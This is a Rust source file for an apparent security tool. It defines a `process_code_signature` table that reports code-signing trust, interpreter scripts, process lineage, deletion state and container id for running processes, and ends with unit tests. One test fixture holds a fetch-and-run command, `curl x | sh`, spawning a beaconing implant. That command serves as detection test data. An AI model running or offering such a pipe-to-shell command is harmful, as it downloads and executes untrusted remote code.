//! `process_code_signature`: one row per running process — who signed what it runs,
//! and, for interpreters, the script behind it.

use super::{Column, Example, QueryContext, Table, TableError, TypedRow};
use crate::judge::subject::{self, ProcessVerdict};
use crate::model::{ControlGroup, Pid, ProcessInfo};
use crate::platform::{self, Host, ProcessCheckError};
use std::collections::HashMap;
use std::sync::Arc;

pub const NAME: &str = "process_code_signature";

super::table_row! {
    /// One row of `process_code_signature`.
    pub struct SignatureRow, cells SignatureCells {
        pid: INTEGER [index] = "Process id (INDEX: `pid =` and `pid IN (…)` read only those processes)",
        parent: INTEGER = "Parent process id",
        path: TEXT = "Executable path",
        cmdline: TEXT = "argv joined by spaces",
        argv: TEXT = "argv as a JSON array of strings (cmdline loses where one argument ends); invalid JSON if cut at the 8 KiB cell cap",
        uid: BIGINT = "Real user id",
        parent_path: TEXT = "Parent's executable path",
        signed: INTEGER = "1 if the executable carries any signature or package provenance (ad-hoc included)",
        trust: TEXT = "apple, app_store, developer_id, package, adhoc, unsigned, invalid or unknown (see error)",
        trusted: INTEGER = "1 iff trust is apple, app_store, developer_id or package",
        identifier: TEXT = "Signing identifier (Linux: owning package name)",
        team_identifier: TEXT = "Team identifier (empty on Linux)",
        authority: TEXT = "Leaf certificate common name (Linux: dpkg or rpm)",
        cdhash: TEXT = "Code directory hash (macOS; empty on Linux)",
        notarized: INTEGER = "1 if notarized, 0 if not, -1 unknown or not applicable (Linux)",
        platform_binary: INTEGER = "1 if an Apple platform binary, 0 if not, -1 on Linux",
        flags: TEXT = "Kernel code-signing flags as hex (macOS; empty on Linux)",
        sha256: TEXT = "SHA-256 of the executable (always filled when trusted = 0, unless too large: see error)",
        interpreter: TEXT = "Interpreter name (python, perl, ruby, sh, bash, zsh, node, osascript, php, tclsh, pwsh…) or empty",
        script_kind: TEXT = "file, inline, stdin, module, interactive, or empty for non-interpreters",
        script_path: TEXT = "Script file run by the interpreter (absolute)",
        script_sha256: TEXT = "SHA-256 of the script file, or of the inline code text",
        script_trust: TEXT = "Trust verdict of the script itself (inline code: unsigned; stdin: unknown)",
        script_quarantined: INTEGER = "1 if the script carries com.apple.quarantine (macOS; 0 on Linux)",
        subject_kind: TEXT = "binary or script: what AN1256 judges",
        subject_path: TEXT = "The executable, or the script for interpreters",
        subject_trusted: INTEGER = "Trust of the subject (an Apple-signed python running /tmp/x.py is 0)",
        subject_identity: TEXT = "Stable baseline key: team:<TEAMID>:<id>, apple:<id>, package:<pkg>:<path>, sha256:<hex>, inline:<interpreter>:<sha256>, script:<sha256>:<interpreter key> (code run by an untrusted interpreter); classes (approved only with --force, never learned): tainted:<key> (other code in the process, or a script file others can change), path:, stdin:, module:",
        cwd: TEXT = "Current working directory",
        start_time: BIGINT = "Process start time, Unix seconds",
        username: TEXT = "Name of the real uid",
        parent_cmdline: TEXT = "Parent's argv joined by spaces",
        grandparent: INTEGER = "Grandparent process id (0 when unknown)",
        grandparent_path: TEXT = "Grandparent's executable path",
        grandparent_cmdline: TEXT = "Grandparent's argv joined by spaces",
        responsible_pid: INTEGER = "Process macOS holds responsible (the app behind a helper or script; 0 when itself or not applicable, as on Linux)",
        responsible_path: TEXT = "Executable of the responsible process",
        script_origin: TEXT = "Who downloaded the script: the com.apple.quarantine agent (macOS; empty on Linux)",
        name: TEXT = "Process name as ps and osquery's processes.name show it (Linux: comm, which the process can set; macOS: the executable's file name)",
        euid: BIGINT = "Effective user id (-1 when unreadable)",
        on_disk: INTEGER = "1 if the file at `path` is still the running executable (same device and inode as /proc/<pid>/exe), 0 if it was deleted or the path now holds another file, -1 if that cannot be told (see error; macOS knows only deletion)",
        cgroup: TEXT = "Linux control group path (cgroup v2, else the v1 systemd hierarchy), empty on macOS",
        container_id: TEXT = "Container id named by the cgroup path (docker, containerd, CRI-O, podman, kubepods), else empty; a name a user with a delegated cgroup can choose, not proof",
        error: TEXT = "Why a field could not be filled (permission, vanished, too large…)",
    }
}

pub const COLUMNS: &[Column] = <SignatureRow as TypedRow>::COLUMNS;

pub struct ProcessCodeSignature {
    host: Arc<dyn Host>,
}

impl ProcessCodeSignature {
    pub fn new(host: Arc<dyn Host>) -> Self {
        ProcessCodeSignature { host }
    }
}

/// Who started the process: parent and grandparent, for triage from one row.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Lineage {
    pub parent_path: String,
    pub parent_cmdline: String,
    pub grandparent: Pid,
    pub grandparent_path: String,
    pub grandparent_cmdline: String,
    /// macOS responsible process (0 when the process is responsible for itself).
    pub responsible_pid: Pid,
    pub responsible_path: String,
}

/// Facts about a running process beyond its verdict: whether its executable is
/// still on disk, its control group.
#[derive(Debug)]
pub struct ProcessContext {
    /// `None` for a kernel thread: it runs no file, so there is nothing to compare
    /// and no error to report.
    pub on_disk: Option<Result<bool, ProcessCheckError>>,
    pub cgroup: ControlGroup,
    pub cgroup_error: Option<ProcessCheckError>,
}

impl ProcessContext {
    pub fn read(host: &dyn Host, process: &ProcessInfo) -> ProcessContext {
        let (cgroup, cgroup_error) = match host.control_group(process.pid) {
            Ok(cgroup) => (cgroup, None),
            Err(e) => (ControlGroup::default(), Some(e)),
        };
        ProcessContext {
            on_disk: (!process.path.is_empty()).then(|| host.executable_on_disk(process)),
            cgroup,
            cgroup_error,
        }
    }
}

/// Builds one row from a verdict (no I/O).
pub fn build_row(
    v: &ProcessVerdict,
    lineage: &Lineage,
    username: &str,
    context: &ProcessContext,
) -> SignatureRow {
    let p = &v.process;
    let id = &v.identity;
    let (script_path, script_sha, script_trust) = match &v.script {
        None => (String::new(), String::new(), ""),
        Some(s) => {
            let (sha, trust) = match (&v.script_identity, s.kind) {
                (Some(si), _) => (si.sha256.clone(), si.trust.as_str()),
                (None, crate::judge::script::ScriptKind::Inline) => {
                    (s.inline_sha256.clone(), "unsigned")
                }
                (None, crate::judge::script::ScriptKind::Module) => {
                    (String::new(), id.trust.as_str())
                }
                (None, crate::judge::script::ScriptKind::Interactive) => (String::new(), ""),
                (None, _) => (String::new(), "unknown"),
            };
            (s.script_path.clone(), sha, trust)
        }
    };
    let mut errors: Vec<&str> = Vec::new();
    for e in [&p.error, &id.error] {
        if !e.is_empty() {
            errors.push(e);
        }
    }
    let script_error = v
        .script_identity
        .as_ref()
        .map(|s| format!("script: {}", s.error));
    if let Some(e) = script_error
        .as_deref()
        .filter(|e| e.len() > "script: ".len())
    {
        errors.push(e);
    }
    let subject_error = format!("subject: {}", v.subject.error);
    if !v.subject.error.is_empty() {
        errors.push(&subject_error);
    }
    let on_disk_error = match &context.on_disk {
        Some(Err(e)) => Some(format!("on_disk: {e}")),
        Some(Ok(_)) | None => None,
    };
    errors.extend(on_disk_error.as_deref());
    let cgroup_error = context
        .cgroup_error
        .as_ref()
        .map(|e| format!("cgroup: {e}"));
    errors.extend(cgroup_error.as_deref());
    SignatureRow {
        pid: p.pid.into(),
        parent: p.parent.into(),
        path: p.path.clone(),
        cmdline: p.argv.join(" "),
        argv: serde_json::to_string(&p.argv).unwrap_or_default(),
        uid: p.uid,
        parent_path: lineage.parent_path.clone(),
        signed: id.signed.into(),
        trust: id.trust.as_str().into(),
        trusted: id.trust.is_trusted().into(),
        identifier: id.identifier.clone(),
        team_identifier: id.team_identifier.clone(),
        authority: id.authority.clone(),
        cdhash: id.cdhash.clone(),
        notarized: id.notarized.into(),
        platform_binary: id.platform_binary.into(),
        flags: id.flags.clone(),
        sha256: id.sha256.clone(),
        interpreter: v.interpreter().into(),
        script_kind: v.script_kind().into(),
        script_path,
        script_sha256: script_sha,
        script_trust: script_trust.into(),
        script_quarantined: v.script_quarantined().into(),
        subject_kind: v.subject.kind.into(),
        subject_path: v.subject.path.clone(),
        subject_trusted: v.subject.trusted.into(),
        subject_identity: v.subject.identity.clone(),
        cwd: p.cwd.clone(),
        start_time: p.start_time,
        username: username.into(),
        parent_cmdline: lineage.parent_cmdline.clone(),
        grandparent: lineage.grandparent.into(),
        grandparent_path: lineage.grandparent_path.clone(),
        grandparent_cmdline: lineage.grandparent_cmdline.clone(),
        responsible_pid: lineage.responsible_pid.into(),
        responsible_path: lineage.responsible_path.clone(),
        script_origin: v
            .script_identity
            .as_ref()
            .map(|s| s.quarantine_agent.clone())
            .unwrap_or_default(),
        name: p.name.clone(),
        euid: p.euid.unwrap_or(-1),
        on_disk: match &context.on_disk {
            Some(Ok(on_disk)) => (*on_disk).into(),
            Some(Err(_)) | None => -1,
        },
        cgroup: context.cgroup.path.clone(),
        container_id: context.cgroup.container_id.clone(),
        error: errors.join("; "),
    }
}

impl Table for ProcessCodeSignature {
    type Row = SignatureRow;
    const NAME: &'static str = NAME;
    const DESCRIPTION: &'static str =
        "One row per running process: the code-trust verdict of its executable and, for interpreters, of the script it runs; `subject_*` is what AN1256 judges.";
    const EXAMPLES: &'static [Example] = &[
        Example {
            title: "Untrusted subjects: the executable, or the script an interpreter runs",
            sql: "SELECT pid, name, path, subject_kind, subject_path, trust, subject_identity FROM process_code_signature WHERE subject_trusted = 0;",
        },
        Example {
            title: "Running executables deleted or replaced on disk",
            sql: "SELECT pid, name, path, uid, euid, sha256, on_disk FROM process_code_signature WHERE on_disk = 0;",
        },
        Example {
            title: "Untrusted code in containers",
            sql: "SELECT container_id, cgroup, pid, name, subject_path FROM process_code_signature WHERE subject_trusted = 0 AND container_id != '';",
        },
    ];

    fn rows(&self, ctx: &QueryContext) -> Result<Vec<SignatureRow>, TableError> {
        let pids: Option<Vec<Pid>> = ctx.equal_integers("pid").map(|list| {
            list.into_iter()
                .filter_map(|p| Pid::try_from(p).ok())
                .collect()
        });
        let processes = platform::read_processes(self.host.as_ref(), pids.as_deref())
            .map_err(|e| TableError::Failed(e.to_string()))?;
        // Full scans know every ancestor already; point lookups read the two they need.
        let mut known: HashMap<Pid, (Pid, String, String)> = if pids.is_none() {
            processes
                .iter()
                .map(|p| (p.pid, (p.parent, p.path.clone(), p.argv.join(" "))))
                .collect()
        } else {
            HashMap::new()
        };
        let mut ancestor = |pid: Pid| -> (Pid, String, String) {
            if pid <= 0 {
                return (0, String::new(), String::new());
            }
            known
                .entry(pid)
                .or_insert_with(|| match self.host.process(pid) {
                    Ok(p) => (p.parent, p.path, p.argv.join(" ")),
                    Err(_) => (0, String::new(), String::new()),
                })
                .clone()
        };
        let mut users: HashMap<i64, String> = HashMap::new();
        let mut rows = Vec::with_capacity(processes.len());
        let deadline = match pids {
            Some(_) => crate::deadline::Deadline::NONE,
            None => ctx.deadline,
        };
        for process in processes {
            if deadline.expired() {
                break;
            }
            let (grandparent, parent_path, parent_cmdline) = ancestor(process.parent);
            let (_, grandparent_path, grandparent_cmdline) = ancestor(grandparent);
            let responsible_pid = self
                .host
                .responsible_pid(process.pid)
                .filter(|r| *r != process.pid)
                .unwrap_or(0);
            let (_, responsible_path, _) = ancestor(responsible_pid);
            let lineage = Lineage {
                parent_path,
                parent_cmdline,
                grandparent,
                grandparent_path,
                grandparent_cmdline,
                responsible_pid,
                responsible_path,
            };
            let username = users
                .entry(process.uid)
                .or_insert_with(|| self.host.user_name(process.uid).unwrap_or_default())
                .clone();
            let context = ProcessContext::read(self.host.as_ref(), &process);
            let verdict = subject::evaluate(self.host.as_ref(), process);
            rows.push(build_row(&verdict, &lineage, &username, &context));
        }
        Ok(rows)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::ProcessInfo;
    use crate::platform::FakeHost;

    fn process(pid: Pid, parent: Pid, argv: &[&str]) -> ProcessInfo {
        ProcessInfo {
            pid,
            parent,
            path: argv[0].into(),
            argv: argv.iter().map(|a| a.to_string()).collect(),
            uid: 0,
            ..Default::default()
        }
    }

    #[test]
    fn rows_carry_parent_and_grandparent_context_for_lookups_and_scans() {
        let host = Arc::new(FakeHost {
            processes: vec![
                process(1, 0, &["/sbin/init"]),
                process(10, 1, &["/usr/bin/sshd", "-D"]),
                process(20, 10, &["/bin/bash", "-c", "curl x | sh"]),
                process(30, 20, &["/tmp/implant", "--beacon"]),
            ],
            responsible: [(30, 10)].into_iter().collect(),
            ..Default::default()
        });
        let table = ProcessCodeSignature::new(host.clone());
        let by_pid = table
            .rows(&QueryContext::new().with_equals("pid", "30"))
            .unwrap();
        let full = table.rows(&QueryContext::new()).unwrap();
        let from_scan = full.iter().find(|r| r.pid == 30).unwrap();
        for row in [&by_pid[0], from_scan] {
            assert_eq!(row.parent_path, "/bin/bash");
            assert_eq!(row.parent_cmdline, "/bin/bash -c curl x | sh");
            assert_eq!(row.grandparent, 10);
            assert_eq!(row.grandparent_path, "/usr/bin/sshd");
            assert_eq!(row.grandparent_cmdline, "/usr/bin/sshd -D");
            assert_eq!(row.cmdline, "/tmp/implant --beacon");
            assert_eq!(row.trust, "unsigned");
            assert_eq!(row.subject_kind, "binary");
            assert_eq!(row.responsible_pid, 10);
            assert_eq!(row.responsible_path, "/usr/bin/sshd");
        }
        // uid 0 is root in every passwd file.
        assert_eq!(by_pid[0].username, "root");
        assert_eq!(full.len(), 4);
        // init has no parent: empty lineage, no lookup of pid 0.
        let init = full.iter().find(|r| r.pid == 1).unwrap();
        assert_eq!(init.parent_path, "");
        assert!(!host.process_calls.lock().unwrap().contains(&0));
    }

    #[test]
    fn name_euid_and_on_disk_columns_fail_closed_where_unknown() {
        let deleted = ProcessInfo {
            name: "implant".into(),
            euid: Some(0),
            uid: 1000,
            exe_deleted: true,
            ..process(40, 1, &["/tmp/implant"])
        };
        let unreadable = ProcessInfo {
            euid: None,
            ..process(41, 1, &["/tmp/other"])
        };
        let table = ProcessCodeSignature::new(Arc::new(FakeHost {
            processes: vec![deleted, unreadable],
            ..Default::default()
        }));
        let rows = table.rows(&QueryContext::new()).unwrap();
        let row = |pid| rows.iter().find(|r| r.pid == pid).unwrap();
        assert_eq!(
            (row(40).name.as_str(), row(40).euid, row(40).uid),
            ("implant", 0, 1000)
        );
        // Deleted is known everywhere; anything else the fake cannot compare: -1.
        assert_eq!(row(40).on_disk, 0);
        assert_eq!(row(41).on_disk, -1);
        assert!(
            row(41).error.contains("on_disk: not compared"),
            "{}",
            row(41).error
        );
        assert_eq!(row(41).euid, -1);
        assert_eq!(
            (row(41).cgroup.as_str(), row(41).container_id.as_str()),
            ("", "")
        );
    }

    #[test]
    fn vanished_pids_are_skipped_not_errors() {
        let table = ProcessCodeSignature::new(Arc::new(FakeHost::default()));
        let rows = table
            .rows(&QueryContext::new().with_equals("pid", "4242"))
            .unwrap();
        assert!(rows.is_empty());
    }
}
